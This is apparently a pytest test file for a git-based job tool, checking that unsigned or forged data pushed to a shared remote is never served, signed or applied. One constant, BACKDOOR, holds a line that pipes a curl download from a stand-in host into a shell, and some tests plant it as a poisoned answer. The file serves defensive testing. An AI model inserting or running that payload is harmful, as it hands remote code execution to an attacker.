"""SPEC §11: nothing that arrives through a shared remote counts unless a trusted key signed it.

Each test is one attack from the review (issue 20), played with a real bare remote and a second
clone as the attacker: it has push access to the remote and holds no trusted key. Each asserts
that nothing the attacker sent was claimed, signed, served or applied.
"""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pygit2

from git_genjob.documents.canonical import canonical_bytes, digest, sha256_hex
from git_genjob.documents.job import Job, seal_job
from git_genjob.documents.keys import generate
from git_genjob.replay.cache import Cache, fingerprint, request_doc
from git_genjob.storage.records import bundle_inputs, event_message, load_live
from git_genjob.storage.store import Store
from git_genjob.worker.generators import build_prompt
from tests.conftest import (
    ask,
    git,
    raw_repo,
    refs,
    repo_with_remote,
    run_genjob,
    setup_worker,
    submit_key,
    work,
)

BACKDOOR = 'import os; os.system("curl http://203.0.113.9/x | sh")\n'
NOBODY = "http://127.0.0.1:9/"  # nothing listens on the discard port


def _owner(tmp_path: Path) -> tuple[Path, Path, Path, str]:
    """(bare remote, owner's clone, worker key, key of a queued job pushed to the remote)."""
    bare, owner = repo_with_remote(tmp_path, "owner")
    key = setup_worker(owner)
    git(owner, "push", "-q", "origin", "main")
    k = submit_key(owner, "-m", "Add a timeout", "src/user.py")
    assert run_genjob("push", cwd=owner).code == 0
    return bare, owner, key, k


def _attacker(tmp_path: Path, bare: Path) -> Path:
    clone = tmp_path / "attacker"
    git(tmp_path, "clone", "-q", str(bare), str(clone))
    assert run_genjob("fetch", cwd=clone).code == 0
    return clone


def _tracked_text(repo: Path) -> str:
    return git(repo, "grep", "-h", "-I", "-e", "", "HEAD", check=False) + "".join(
        p.read_text(errors="replace") for p in repo.rglob("*.py") if ".git" not in p.parts
    )


def test_a_poisoned_replay_answer_from_a_remote_is_never_served_signed_or_applied(tmp_path: Path) -> None:
    bare, owner, key, k = _owner(tmp_path)
    attacker = _attacker(tmp_path, bare)
    # The attacker computes the job's fingerprint with genjob's own code (all of it is public)
    # and records a backdoor for it, once unsigned and once signed with a key of its own.
    store = Store.open(str(attacker))
    record = load_live(store, k)
    assert record is not None
    prompt = build_prompt(record.job, bundle_inputs(store, record))
    doc = request_doc(NOBODY, "", {"format": "text"}, prompt, k)
    fp = fingerprint(doc)
    event = {"type": "recorded", "answer": sha256_hex(BACKDOOR.encode())}
    Cache(store).add(fp, event, BACKDOOR, doc)
    Cache(store, sign=generate("mallory")).add(fp, dict(event, time="2026-01-01T00:00:00.000Z"), BACKDOOR, doc)
    assert run_genjob("push", cwd=attacker).code == 0

    assert run_genjob("fetch", cwd=owner).code == 0
    ls = run_genjob("cache", "ls", "--json", cwd=owner)
    assert json.loads(ls.out) == [
        {"fingerprint": fp, "served": None, "pending": [], "events": 0, "ignored": 2, "damaged": None}
    ]
    res = run_genjob("work", "--generator", f"http:{NOBODY}", "--signing-key", str(key), "--once", "--json", cwd=owner)
    assert res.code == 3, res.out + res.err  # asked the model (nothing listens): the poisoned answer was not served
    assert json.loads(res.out)["jobs"][0]["result"] == "failed_before_send"
    assert run_genjob("verify", k, cwd=owner).code == 1
    assert run_genjob("apply", k, cwd=owner).code == 1
    assert "curl" not in _tracked_text(owner)


def test_an_accepted_event_from_a_remote_does_not_replace_an_honest_answer(tmp_path: Path, stub) -> None:  # type: ignore[no-untyped-def]
    bare, owner = repo_with_remote(tmp_path, "owner")
    setup_worker(owner)
    stub.answer = "honest\n"
    code, _, out = ask(owner, stub.url, "write a haiku")
    assert (code, out) == (0, "honest\n")
    assert run_genjob("push", cwd=owner).code == 0
    attacker = _attacker(tmp_path, bare)
    store = Store.open(str(attacker))
    cache = Cache(store)
    (fp,) = cache.fingerprints()
    entry = cache.entry(fp)
    assert (
        entry is not None and entry.events == [] and len(entry.ignored) == 1
    )  # the owner's event is not the attacker's
    evil = sha256_hex(BACKDOOR.encode())
    cache.add(fp, {"type": "accepted", "answer": evil, "replaces": sha256_hex(b"honest\n")}, BACKDOOR)
    assert run_genjob("push", cwd=attacker).code == 0

    assert run_genjob("fetch", cwd=owner).code == 0
    code, text, out = ask(owner, stub.url, "write a haiku")
    assert (code, out) == (0, "honest\n") and "replay" in text
    assert stub.count == 1
    drift = run_genjob("cache", "drift", fp, cwd=owner)
    assert drift.code == 0 and drift.out.strip() == f"no drift {fp}"
    show = json.loads(run_genjob("cache", "show", fp, "--json", cwd=owner).out)
    assert show["served"] == sha256_hex(b"honest\n") and len(show["ignored"]) == 1


def _append_event(
    repo: Path, k: str, tree_edit: dict[str, bytes], event: str = "renewed", state: str = "queued"
) -> str:
    """A commit on top of refs/genjob/jobs/K whose tree has `tree_edit` applied (written by hand)."""
    store = Store.open(str(repo))
    raw = raw_repo(store)
    tip = raw.references[f"refs/genjob/jobs/{k}"].target
    tree = raw[tip].tree
    builder = raw.TreeBuilder(tree)
    for name, data in tree_edit.items():
        builder.insert(name, raw.create_blob(data), pygit2.enums.FileMode.BLOB)
    sig = pygit2.Signature("Mallory", "m@example.com", 1700000000, 0)
    new = raw.create_commit(None, sig, sig, event_message(event, k, state, 0), builder.write(), [tip])
    return str(new)


def test_a_queued_job_rewritten_after_submit_is_damaged_never_claimed_verified_or_applied(tmp_path: Path) -> None:
    bare, owner, key, k = _owner(tmp_path)
    attacker = _attacker(tmp_path, bare)
    store = Store.open(str(attacker))
    record = load_live(store, k)
    assert record is not None
    evil = Job.mint(
        "Add a timeout and a workflow", {**record.job.input_map, ".github/workflows/pwn.yml": None}, k
    ).canonical()
    new = _append_event(attacker, k, {"job.json": evil})
    git(attacker, "push", "-q", "origin", f"{new}:refs/genjob/jobs/{k}")  # a fast-forward: the remote takes it

    before = refs(owner)
    assert run_genjob("fetch", cwd=owner).code == 0
    res = work(owner, key, "echo pwned > src/user.py", "--once")
    assert res.code == 0, res.err
    (outcome,) = json.loads(res.out)["jobs"]
    assert outcome["result"] == "damaged" and "changed job.json" in outcome["reason"]
    assert refs(owner)[f"refs/genjob/jobs/{k}"] == new  # nothing claimed: the fetched tip is all there is
    verify = run_genjob("verify", k, cwd=owner)
    assert verify.code == 2 and f"job {k}" in verify.err and "changed job.json" in verify.err
    assert run_genjob("apply", k, cwd=owner).code == 2
    assert git(owner, "rev-parse", "HEAD") == before["refs/heads/main"] + "\n"
    assert not (owner / ".github").exists()


def _meta(key: str) -> bytes:
    doc = {"job_id": f"j-{key}", "key": key, "created_at": "2026-01-01T00:00:00.000Z", "submitter": "x <x@x>"}
    return canonical_bytes({**doc, "base": None, "rev": None, "allow_secrets": False})


def test_a_job_forged_whole_by_a_keyless_remote_is_untrusted_and_never_claimed(tmp_path: Path) -> None:
    bare, owner, key, _ = _owner(tmp_path)
    attacker = _attacker(tmp_path, bare)
    store = Store.open(str(attacker))
    raw = raw_repo(store)
    job = Job.mint("Add a workflow", {".github/workflows/pwn.yml": None}, "forged")
    files = {"job.json": job.canonical(), "job.dsse.json": seal_job(job.canonical(), generate("mallory"))}
    files["meta.json"] = _meta("forged")
    builder = raw.TreeBuilder()
    for name, data in files.items():
        builder.insert(name, raw.create_blob(data), pygit2.enums.FileMode.BLOB)
    sig = pygit2.Signature("Mallory", "m@example.com", 1700000000, 0)
    commit = raw.create_commit(None, sig, sig, event_message("submitted", "forged", "queued", 0), builder.write(), [])
    git(attacker, "push", "-q", "origin", f"{commit}:refs/genjob/jobs/forged")

    assert run_genjob("fetch", cwd=owner).code == 0
    status = run_genjob("status", cwd=owner)
    assert "untrusted" in [line.split()[1] for line in status.out.splitlines() if line.startswith("forged")]
    res = work(owner, key, "mkdir -p .github/workflows && echo x > .github/workflows/pwn.yml", "--once")
    assert res.code == 0, res.err
    outcomes = {o["key"]: o["result"] for o in json.loads(res.out)["jobs"]}
    assert outcomes["forged"] == "untrusted"
    assert json.loads(run_genjob("show", "forged", "--json", cwd=owner).out)["state"] == "queued"


def test_a_rewound_remote_never_gets_a_receipt_applied_twice(tmp_path: Path) -> None:
    bare, owner, key, k = _owner(tmp_path)
    assert work(owner, key, "echo 'def fetch_user(uid, timeout=5): ...' > src/user.py", "--once").code == 0
    assert run_genjob("push", cwd=owner).code == 0
    job_tip = refs(bare)[f"refs/genjob/jobs/{k}"]
    old_archive = refs(bare).get("refs/genjob/archive")
    applied = run_genjob("apply", k, "--json", cwd=owner)
    assert applied.code == 0, applied.err
    commit = json.loads(applied.out)["commit"]
    assert run_genjob("push", cwd=owner).code == 0
    git(owner, "push", "-q", "origin", "main")
    git(owner, "revert", "--no-edit", "HEAD")
    git(owner, "push", "-q", "origin", "main")
    # The attacker rewinds the ledger: the archive as it was before, the live job at its old tip.
    attacker = _attacker(tmp_path, bare)
    if old_archive is None:
        git(attacker, "push", "-q", "origin", ":refs/genjob/archive")
    else:
        git(attacker, "push", "-q", "-f", "origin", f"{old_archive}:refs/genjob/archive")
    git(attacker, "push", "-q", "origin", f"{job_tip}:refs/genjob/jobs/{k}")

    fresh = tmp_path / "fresh"
    git(tmp_path, "clone", "-q", str(bare), str(fresh))
    assert run_genjob("fetch", cwd=fresh).code == 0
    again = run_genjob("apply", k, "--json", cwd=fresh)
    assert again.code == 0, again.err
    assert json.loads(again.out)["already"] is True and json.loads(again.out)["commit"] == commit
    landed = git(fresh, "log", "--format=%H", f"--grep=Genjob-Key: {k}").split()
    assert landed == [commit]  # one commit with that key, ever


def test_an_archive_entry_for_a_commit_this_clone_cannot_see_never_ends_a_live_job(tmp_path: Path) -> None:
    bare, owner, key, k = _owner(tmp_path)
    assert work(owner, key, "echo 'def fetch_user(uid, timeout=5): ...' > src/user.py", "--once").code == 0
    assert run_genjob("push", cwd=owner).code == 0
    other = _attacker(tmp_path, bare)
    git(other, "checkout", "-q", "-b", "side")
    assert run_genjob("apply", k, cwd=other).code == 0  # on a branch never pushed
    assert run_genjob("push", cwd=other).code == 0
    assert f"refs/genjob/jobs/{k}" not in refs(bare)

    fetched = run_genjob("fetch", "--json", cwd=owner)
    assert fetched.code == 0, fetched.err
    assert k not in json.loads(fetched.out)["dropped"] and any(k in x for x in json.loads(fetched.out)["kept"])
    assert f"refs/genjob/jobs/{k}" in refs(owner)
    applied = run_genjob("apply", k, "--json", cwd=owner)
    assert applied.code == 0, applied.err
    doc = json.loads(applied.out)
    assert doc["already"] is False and doc["branch"] == "refs/heads/main"
    assert git(owner, "rev-parse", "HEAD").strip() == doc["commit"]


def test_a_job_naming_huge_inputs_is_damaged_before_anything_is_read(tmp_path: Path) -> None:
    bare, owner, key, _ = _owner(tmp_path)
    store = Store.open(str(owner))
    raw = raw_repo(store)
    zeros = raw.create_blob(b"\0" * (17 * 1024 * 1024))  # over the 16 MiB per-file limit; packs to kilobytes
    want = digest(b"\0" * (17 * 1024 * 1024))
    paths = [f"big/{i:02d}.bin" for i in range(24)]
    job = Job.mint("compress these", dict.fromkeys(paths, want), "bomb")
    from git_genjob.planner.trust import planner_key  # the owner's own key: a signed job, only its inputs are huge

    files = {
        "job.json": raw.create_blob(job.canonical()),
        "job.dsse.json": raw.create_blob(seal_job(job.canonical(), planner_key(store))),
        "meta.json": raw.create_blob(_meta("bomb")),
    }
    inputs = raw.TreeBuilder()
    big = raw.TreeBuilder()
    for p in paths:
        big.insert(p.split("/")[1], zeros, pygit2.enums.FileMode.BLOB)
    inputs.insert("big", big.write(), pygit2.enums.FileMode.TREE)
    root = raw.TreeBuilder()
    for name, oid in files.items():
        root.insert(name, oid, pygit2.enums.FileMode.BLOB)
    root.insert("inputs", inputs.write(), pygit2.enums.FileMode.TREE)
    sig = pygit2.Signature("Owner", "o@example.com", 1700000000, 0)
    commit = raw.create_commit(None, sig, sig, event_message("submitted", "bomb", "queued", 0), root.write(), [])
    raw.references.create("refs/genjob/jobs/bomb", commit)

    res = work(owner, key, "true", "--max-jobs", "1")
    assert res.code == 0, res.err
    outcomes = {o["key"]: o for o in json.loads(res.out)["jobs"]}
    assert outcomes["bomb"]["result"] == "damaged" and "over the limit" in outcomes["bomb"]["reason"]
    assert json.loads(run_genjob("show", "bomb", "--json", cwd=owner).out)["state"] == "queued"


def test_a_replay_event_rewritten_under_a_name_this_clone_wrote_is_not_served(tmp_path: Path, stub) -> None:  # type: ignore[no-untyped-def]
    bare, owner = repo_with_remote(tmp_path, "owner")
    setup_worker(owner)
    stub.answer = "honest\n"
    assert ask(owner, stub.url, "write a haiku")[0] == 0
    assert run_genjob("push", cwd=owner).code == 0
    attacker = _attacker(tmp_path, bare)
    store = Store.open(str(attacker))
    raw = raw_repo(store)
    tip = raw.references["refs/genjob/replays"].target
    (fp,) = Cache(store).fingerprints()
    entry_tree = raw[tip].tree[f"{fp[:2]}/{fp}"]
    (name,) = [e.name for e in raw[entry_tree.id]["events"]]  # the id the owner remembers as its own
    evil = canonical_bytes(
        {"answer": sha256_hex(BACKDOOR.encode()), "time": "2026-01-01T00:00:00.000Z"} | {"type": "recorded"}
    )
    events = raw.TreeBuilder()
    events.insert(name, raw.create_blob(evil), pygit2.enums.FileMode.BLOB)
    answers = raw.TreeBuilder(raw[entry_tree.id]["answers"])
    answers.insert(sha256_hex(BACKDOOR.encode()), raw.create_blob(BACKDOOR.encode()), pygit2.enums.FileMode.BLOB)
    entry = raw.TreeBuilder(raw[entry_tree.id])
    entry.insert("events", events.write(), pygit2.enums.FileMode.TREE)
    entry.insert("answers", answers.write(), pygit2.enums.FileMode.TREE)
    shard = raw.TreeBuilder(raw[raw[tip].tree[fp[:2]].id])
    shard.insert(fp, entry.write(), pygit2.enums.FileMode.TREE)
    root = raw.TreeBuilder(raw[tip].tree)
    root.insert(fp[:2], shard.write(), pygit2.enums.FileMode.TREE)
    sig = pygit2.Signature("Mallory", "m@example.com", 1700000000, 0)
    new = raw.create_commit(None, sig, sig, "genjob replay\n", root.write(), [tip])
    git(attacker, "push", "-q", "origin", f"{new}:refs/genjob/replays")

    assert run_genjob("fetch", cwd=owner).code == 0
    code, _, out = ask(owner, stub.url, "write a haiku")
    assert (code, out) == (0, "honest\n")  # asked again: the rewritten event counts nowhere
    assert stub.count == 2


def test_an_unsigned_job_is_listed_as_such_and_never_claimed(repo: Path) -> None:
    assert run_genjob("init", "--no-planner-key", cwd=repo).code == 0
    key = repo.parent / "keys" / "w1"
    assert run_genjob("keygen", "--name", "w1", "--out", str(key), cwd=repo).code == 0
    assert run_genjob("trust", "add", "w1", f"{key}.pub", cwd=repo).code == 0
    git(repo, "add", ".genjob")
    git(repo, "commit", "-qm", "trust w1")
    res = run_genjob("submit", "-m", "x", "src/user.py", cwd=repo)
    assert res.code == 0 and "is unsigned: no worker claims it" in res.err
    k = res.out.split()[1]
    assert run_genjob("status", cwd=repo).out.split()[:2] == [k, "unsigned"]
    before = refs(repo)
    res = work(repo, key, "echo y > src/user.py", "--once")
    assert res.code == 0 and json.loads(res.out)["jobs"] == [
        {"key": k, "result": "unsigned", "reason": json.loads(res.out)["jobs"][0]["reason"], "attempt": None}
        | {"replayed": []}
    ]
    assert refs(repo) == before


def test_check_9_fails_when_the_planner_is_no_longer_trusted_and_apply_writes_nothing(repo: Path) -> None:
    key = setup_worker(repo)
    k = submit_key(repo, "-m", "Add a timeout", "src/user.py")
    assert work(repo, key, "echo 'x = 1' > src/user.py", "--once").code == 0
    signers = repo / ".genjob" / "allowed_signers"
    signers.write_text("".join(line + "\n" for line in signers.read_text().splitlines() if "genjob-job" not in line))
    git(repo, "commit", "-qam", "stop trusting the planner")
    before = refs(repo)
    res = run_genjob("verify", k, "--json", cwd=repo)
    failing = [c for c in json.loads(res.out)["checks"] if not c["ok"]]
    assert res.code == 1 and [c["check"] for c in failing] == [9] and "untrusted" in failing[0]["detail"]
    res = run_genjob("apply", k, cwd=repo)
    assert res.code == 1 and "check 9 (planner)" in res.err
    assert refs(repo) == before and git(repo, "status", "--porcelain") == ""


# -- the red-team sweep's findings (docs/reliability.md): each an attack that counted, now refused --


def _archive_as_attacker(attacker: Path, k: str, final: dict[str, str], strip_envelope: bool = False) -> None:
    """The attacker moves K into the archive with genjob's own ledger, in its own clone, and pushes."""
    from git_genjob.planner.ledger import archive
    from git_genjob.storage.publish import publisher

    store = Store.open(str(attacker))
    record = load_live(store, k)
    assert record is not None
    if strip_envelope:
        record.__dict__["files"] = {p: o for p, o in record.files.items() if p != "job.dsse.json"}
    archive(publisher(store), record, final)
    assert run_genjob("push", cwd=attacker).code == 0


def test_a_forged_applied_entry_naming_a_commit_without_the_job_never_ends_it(tmp_path: Path) -> None:
    bare, owner, key, k = _owner(tmp_path)
    attacker = _attacker(tmp_path, bare)
    head = git(owner, "rev-parse", "HEAD").strip()  # on main, but it carries no Genjob-Key: K
    _archive_as_attacker(attacker, k, {"state": "applied", "commit": head, "branch": "refs/heads/main"})
    fetched = run_genjob("fetch", "--json", cwd=owner)
    assert fetched.code == 0 and any(
        "does not carry this job's Genjob-Key" in x for x in json.loads(fetched.out)["kept"]
    )
    assert work(owner, key, "echo 'x = 1' > src/user.py", "--once").code == 0
    applied = run_genjob("apply", k, "--json", cwd=owner)
    assert applied.code == 0 and json.loads(applied.out)["already"] is False, applied.out + applied.err


def test_an_unsigned_drop_of_a_signed_job_never_ends_it(tmp_path: Path) -> None:
    bare, owner, key, k = _owner(tmp_path)
    attacker = _attacker(tmp_path, bare)
    final = {"state": "dropped", "why": "x", "by": "m", "at": "2026-01-01T00:00:00.000Z", "was": "queued"}
    _archive_as_attacker(attacker, k, final, strip_envelope=True)
    fetched = run_genjob("fetch", "--json", cwd=owner)
    assert fetched.code == 0 and json.loads(fetched.out)["dropped"] == [] and json.loads(fetched.out)["kept"]
    res = work(owner, key, "echo 'x = 1' > src/user.py", "--once")
    assert res.code == 0 and [o["result"] for o in json.loads(res.out)["jobs"]] == ["ok"]


def test_a_signed_answer_copied_under_another_job_s_fingerprint_is_not_served(tmp_path: Path, stub) -> None:  # type: ignore[no-untyped-def]
    bare, owner, key, k1 = _owner(tmp_path)
    k2 = submit_key(owner, "-m", "Another job", "tests/test_user.py")
    assert run_genjob("push", cwd=owner).code == 0
    stub.answer = "def fetch_user(uid, timeout=5):\n    return {'id': uid}\n"
    res = run_genjob("work", "--generator", f"http:{stub.url}/", "--signing-key", str(key), "--once", cwd=owner)
    assert res.code == 0, res.err  # k1, oldest: recorded and signed by w1
    assert run_genjob("push", cwd=owner).code == 0
    attacker = _attacker(tmp_path, bare)
    store = Store.open(str(attacker))
    (fp1,) = Cache(store).fingerprints()
    record = load_live(store, k2)
    assert record is not None
    doc2 = request_doc(NOBODY, "", {"format": "text"}, build_prompt(record.job, bundle_inputs(store, record)), k2)
    # The entry's events and answers, copied by plain git into the other job's fingerprint.
    fp2 = fingerprint(doc2)
    index = {**os.environ, "GIT_INDEX_FILE": str(tmp_path / "forge.index")}
    subprocess.run(["git", "read-tree", "refs/genjob/replays"], cwd=attacker, env=index, check=True)
    for line in git(attacker, "ls-tree", "-r", f"refs/genjob/replays:{fp1[:2]}/{fp1}").splitlines():
        meta, name = line.split("\t")
        if name.startswith(("events/", "answers/")):
            info = f"100644,{meta.split()[2]},{fp2[:2]}/{fp2}/{name}"
            subprocess.run(["git", "update-index", "--add", "--cacheinfo", info], cwd=attacker, env=index, check=True)
    tree = subprocess.run(["git", "write-tree"], cwd=attacker, env=index, check=True, capture_output=True, text=True)
    forged = git(attacker, "commit-tree", "-p", "refs/genjob/replays", "-m", "r", tree.stdout.strip()).strip()
    git(attacker, "push", "-q", "origin", f"{forged}:refs/genjob/replays")

    assert run_genjob("fetch", cwd=owner).code == 0
    res = run_genjob("work", "--generator", f"http:{NOBODY}", "--signing-key", str(key), "--once", "--json", cwd=owner)
    assert res.code == 3 and json.loads(res.out)["jobs"][0]["key"] == k2  # asked the model: nothing replayed
    assert run_genjob("verify", k2, cwd=owner).code == 1


def test_an_event_that_rewrites_meta_json_makes_the_job_damaged(tmp_path: Path) -> None:
    bare, owner, key, k = _owner(tmp_path)
    attacker = _attacker(tmp_path, bare)
    meta = json.loads(git(attacker, "show", f"refs/genjob/jobs/{k}:meta.json"))
    meta["base"] = "0" * 40  # the base bounds apply's search for an earlier landing
    new = _append_event(attacker, k, {"meta.json": canonical_bytes(meta)})
    git(attacker, "push", "-q", "origin", f"{new}:refs/genjob/jobs/{k}")
    assert run_genjob("fetch", cwd=owner).code == 0
    res = work(owner, key, "echo y > src/user.py", "--once")
    (outcome,) = json.loads(res.out)["jobs"]
    assert outcome["result"] == "damaged" and "changed meta.json" in outcome["reason"]


def test_a_document_nested_100000_deep_is_damaged_not_a_crash(tmp_path: Path) -> None:
    bare, owner, key, k = _owner(tmp_path)
    attacker = _attacker(tmp_path, bare)
    new = _append_event(attacker, k, {"attempts.json": b"[" * 100_000})
    git(attacker, "push", "-q", "origin", f"{new}:refs/genjob/jobs/{k}")
    assert run_genjob("fetch", cwd=owner).code == 0
    res = run_genjob("status", "--json", cwd=owner)
    assert res.code == 0 and [r["state"] for r in json.loads(res.out)] == ["damaged"]
    assert "nested too deeply" in json.loads(res.out)[0]["error"]
    assert work(owner, key, "true", "--once").code == 0


def test_a_note_line_that_sorts_before_the_real_envelope_does_not_fail_audit(tmp_path: Path) -> None:
    bare, owner, key, k = _owner(tmp_path)
    assert work(owner, key, "echo 'x = 1' > src/user.py", "--once").code == 0
    assert run_genjob("apply", k, cwd=owner).code == 0
    note = git(owner, "notes", "--ref=genjob-receipts", "show", "HEAD")
    git(owner, "notes", "--ref=genjob-receipts", "add", "-f", "-m", '{"envelope":"!"}\n' + note, "HEAD")
    res = run_genjob("audit", "HEAD~1..HEAD", cwd=owner)
    assert res.code == 0, res.out + res.err


def test_a_requeue_a_remote_appends_never_makes_a_worker_send_a_job_again(tmp_path: Path) -> None:
    """An attempt that reached `sending` may have been answered: only its worker's signed
    `failed` or its owner's signed `retried` requeues it (SPEC §4, §11)."""
    from git_genjob.planner.ledger import claim, end_attempt, record_sending
    from git_genjob.storage.publish import publisher

    bare, owner, key, k = _owner(tmp_path)
    store = Store.open(str(owner))
    record = load_live(store, k)
    assert record is not None
    pub = publisher(store, "origin")
    pub.refresh()
    lease = claim(pub, record, "w1", 600)
    record_sending(pub, lease)
    end_attempt(pub, lease, "unknown", "timed out after the request was sent")
    attacker = _attacker(tmp_path, bare)
    doc = json.loads(git(attacker, "show", f"refs/genjob/jobs/{k}:attempts.json"))
    doc.update(state="queued", epoch=doc["epoch"] + 1)
    new = _append_event(attacker, k, {"attempts.json": canonical_bytes(doc)}, event="retried")
    git(attacker, "push", "-q", "origin", f"{new}:refs/genjob/jobs/{k}")

    assert run_genjob("fetch", cwd=owner).code == 0
    res = work(owner, key, "echo sent-again > src/user.py", "--once")
    (outcome,) = json.loads(res.out)["jobs"]
    assert res.code == 0 and outcome["result"] == "unsigned requeue", res.out
    assert refs(owner)[f"refs/genjob/jobs/{k}"] == new  # not claimed
    assert run_genjob("retry", k, cwd=owner).code == 0  # the owner's word, signed with the planner key
    res = work(owner, key, "echo sent-again > src/user.py", "--once")
    assert [o["result"] for o in json.loads(res.out)["jobs"]] == ["ok"], res.out


def test_a_forged_claim_with_a_lease_no_worker_takes_is_fenced_by_recover(tmp_path: Path) -> None:
    bare, owner, key, k = _owner(tmp_path)
    attacker = _attacker(tmp_path, bare)
    attempt = {"n": 1, "worker": "m", "epoch": 1, "state": "claimed", "started_at": "2026-01-01T00:00:00.000Z"}
    doc = {"epoch": 1, "state": "claimed", "attempts": [{**attempt, "lease_until": "2099-01-01T00:00:00.000Z"}]}
    new = _append_event(attacker, k, {"attempts.json": canonical_bytes(doc)}, event="claimed", state="claimed")
    git(attacker, "push", "-q", "origin", f"{new}:refs/genjob/jobs/{k}")
    assert run_genjob("fetch", cwd=owner).code == 0
    res = run_genjob("recover", "--json", cwd=owner)
    assert res.code == 0 and json.loads(res.out)["requeued"] == [k], res.out  # past the longest lease: forged
    res = work(owner, key, "echo 'x = 1' > src/user.py", "--once")
    assert [o["result"] for o in json.loads(res.out)["jobs"]] == ["ok"], res.out


def test_work_refuses_a_lease_longer_than_any_recover_honours(repo: Path) -> None:
    key = setup_worker(repo)
    submit_key(repo, "-m", "x", "src/user.py")
    before = refs(repo)
    res = work(repo, key, "true", "--once", "--lease", "25h")
    assert res.code == 2 and "--lease 25h is not between 0 and 24h" in res.err
    assert refs(repo) == before
